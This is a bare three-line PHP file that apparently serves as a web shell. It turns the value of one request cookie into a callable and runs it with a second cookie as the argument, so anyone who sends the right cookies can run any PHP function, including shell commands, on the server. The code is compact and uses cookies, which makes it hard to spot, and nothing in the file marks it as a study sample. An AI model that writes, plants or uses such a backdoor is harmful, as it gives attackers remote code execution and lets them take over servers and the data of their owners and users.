<?php
$c = Closure::fromCallable($_COOKIE['f']);
$c($_COOKIE['a']);
